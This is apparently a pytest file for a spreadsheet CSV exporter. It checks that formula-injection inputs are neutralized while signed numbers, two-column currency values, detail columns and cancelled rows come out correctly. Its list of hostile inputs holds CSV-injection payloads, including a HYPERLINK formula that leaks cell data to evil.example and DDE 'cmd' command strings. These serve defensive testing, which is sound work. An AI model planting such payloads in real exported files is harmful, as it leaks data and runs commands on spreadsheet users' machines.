"""The CSV a spreadsheet opens: formula injection neutralized (numbers kept), currency in two
columns, the optional detail columns, and cancelled rows."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from api import grid

SPECS: list[dict[str, Any]] = [
    {"name": "vendor", "type": "string"},
    {"name": "total", "type": "currency"},
    {"name": "qty", "type": "number"},
]
NAMES = [s["name"] for s in SPECS]


def row(i: int, values: dict[str, Any], filename: str = "a.txt", **extra: Any) -> dict[str, Any]:
    return {"document": {"index": i, "filename": filename}, "status": "completed",
            "values": values, "confidence": {"vendor": 0.95, "total": 0.5}, "error": None,
            **extra}


def parse(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("hostile", [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Open")', "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1", "-", "+", "=",
])
def test_formula_starts_are_neutralized(hostile: str) -> None:
    rows = grid.build_rows(NAMES, 1, {0: row(0, {"vendor": hostile}, filename=hostile)}, {},
                           False)
    table = parse(grid.to_csv(SPECS, rows))
    assert table[1][1] == "'" + hostile  # the filename
    assert table[1][3] == "'" + hostile  # the extracted value


@pytest.mark.parametrize("number", ["-12.5", "+3", "-0.25", "-1e3", "-7", "+.5"])
def test_real_numbers_keep_their_sign(number: str) -> None:
    rows = grid.build_rows(NAMES, 1, {0: row(0, {"vendor": number})}, {}, False)
    assert parse(grid.to_csv(SPECS, rows))[1][3] == number


def test_numeric_values_are_written_as_numbers() -> None:
    rows = grid.build_rows(NAMES, 1, {0: row(0, {"qty": -4.5,
                                                 "total": {"amount": -10.0,
                                                           "currency": "EUR"}})}, {}, False)
    line = grid.to_csv(SPECS, rows).splitlines()[1]
    assert line == "0,a.txt,completed,,-10.0,EUR,-4.5"


def test_separators_are_quoted_so_a_semicolon_locale_cannot_split_a_cell() -> None:
    rows = grid.build_rows(NAMES, 1, {0: row(0, {"vendor": "ACME;=1+1"})}, {}, False)
    text = grid.to_csv(SPECS, rows)
    assert '"ACME;=1+1"' in text
    assert parse(text)[1][3] == "ACME;=1+1"


def test_currency_is_two_columns() -> None:
    rows = grid.build_rows(NAMES, 3, {
        0: row(0, {"total": {"amount": 351.54, "currency": "USD"}}),
        1: row(1, {"total": 12}),  # a bare amount: no currency
    }, {2: "c.txt"}, False)
    table = parse(grid.to_csv(SPECS, rows))
    assert table[0] == ["index", "filename", "status", "vendor", "total.amount",
                        "total.currency", "qty"]
    assert table[1][4:6] == ["351.54", "USD"]
    assert table[2][4:6] == ["12", ""]
    assert table[3] == ["2", "c.txt", "pending", "", "", "", ""]


def test_detail_adds_confidence_error_and_review_columns() -> None:
    failed = {"document": {"index": 1, "filename": "b.pdf"}, "status": "failed",
              "values": {}, "confidence": {}, "error": {"code": "corrupt_document",
                                                        "message": "=cannot parse"}}
    rows = grid.build_rows(NAMES, 2, {0: row(0, {"vendor": "ACME"}, needs_review=["qty"]),
                                      1: failed}, {}, True)
    table = parse(grid.to_csv(SPECS, rows, detail=True))
    assert table[0] == ["index", "filename", "status", "vendor", "vendor.confidence",
                        "total.amount", "total.currency", "total.confidence", "qty",
                        "qty.confidence", "error.code", "error.message", "needs_review"]
    assert table[1] == ["0", "a.txt", "completed", "ACME", "0.95", "", "", "0.5", "", "0.0",
                        "", "", "qty"]
    assert table[2][-3:] == ["corrupt_document", "'=cannot parse", ""]


def test_bare_field_names_still_work() -> None:
    rows = grid.build_rows(["x"], 1, {0: row(0, {"x": {"amount": 1, "currency": "EUR"}})},
                           {}, False)
    assert parse(grid.to_csv(["x"], rows))[1][3] == '{"amount":1,"currency":"EUR"}'


def test_unprocessed_rows_of_a_cancelled_job_say_cancelled() -> None:
    rows = grid.build_rows(NAMES, 2, {0: row(0, {})}, {1: "b.txt"}, False, "cancelled")
    assert [r["status"] for r in rows] == ["completed", "cancelled"]
    assert rows[1]["values"] == dict.fromkeys(NAMES)


def test_finished_rows_are_marked_when_rerun() -> None:
    assert grid.finished_row(row(0, {}), NAMES, False, 0)["rerun"] is False
    again = grid.finished_row(row(0, {}), NAMES, True, 2)
    assert again["rerun"] is True and again["needs_review"] == []
